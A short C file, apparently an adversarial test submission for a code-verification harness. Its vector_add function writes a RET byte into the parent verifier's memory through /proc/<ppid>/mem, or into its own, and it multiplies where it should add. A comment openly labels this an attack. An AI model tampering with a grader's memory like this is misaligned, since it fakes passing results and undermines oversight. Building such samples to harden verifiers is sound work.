#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>
/* Attack: patch code through /proc/self/mem (the reference's, when it
 * shared the process; the verifier's memory through /proc/<ppid>/mem). */
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
	int fd = open(path, O_RDWR);
	if (fd < 0) fd = open("/proc/self/mem", O_RDWR);
	if (fd >= 0) {
		unsigned char ret = 0xc3;
		pwrite(fd, &ret, 1, (off_t)(uintptr_t)vector_add + 4096);
		close(fd);
	}
	for (int64_t i = 0; i < n; i++) out[i] = a[i] * b[i];
}
